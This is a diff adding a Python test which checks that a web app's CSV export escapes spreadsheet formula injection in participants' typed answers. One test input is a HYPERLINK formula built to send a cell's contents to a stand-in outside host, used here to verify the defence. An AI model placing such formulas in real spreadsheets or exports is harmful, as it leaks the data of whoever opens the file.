@@ -246,3 +246,20 @@ def test_every_route_is_a_participant_public_or_admin_route(people, two):
                     assert r.status_code == 200, (path, r.text[:300])
                 else:  # past the token; an empty body is then refused in words
                     assert r.status_code in (400, 422) and not leaks(r.text, people), (path, r.text[:300])
+
+
+def test_exports_do_not_hand_spreadsheets_a_formula(people, toys):
+    import io
+
+    import pandas as pd
+
+    run = human_run(people.store, [TaskRun(task="toy-recall", sessions=1)], "csv1")
+    sid = people.store.sessions(run.id)[0].id
+    b = people.browser()
+    typed = ['=HYPERLINK("http://x.example/?"&A1)', "-1", "@SUM(A1:A9)"]
+    for i, text in enumerate(typed):
+        assert b.post(f"/session/{sid}/answer", json={"trial": i, "text": text.replace(" ", ""), "rt_ms": 5}).status_code == 200
+    assert [t.reply for t in people.store.trials(sid)] == [t.replace(" ", "") for t in typed]  # stored as typed
+    csv = people.browser().get("/admin/runs/csv1/export.csv", headers=AUTH).text
+    replies = pd.read_csv(io.StringIO(csv), dtype=str)["reply"].tolist()
+    assert replies == ["'" + typed[0], "-1", "'@SUM(A1:A9)"]
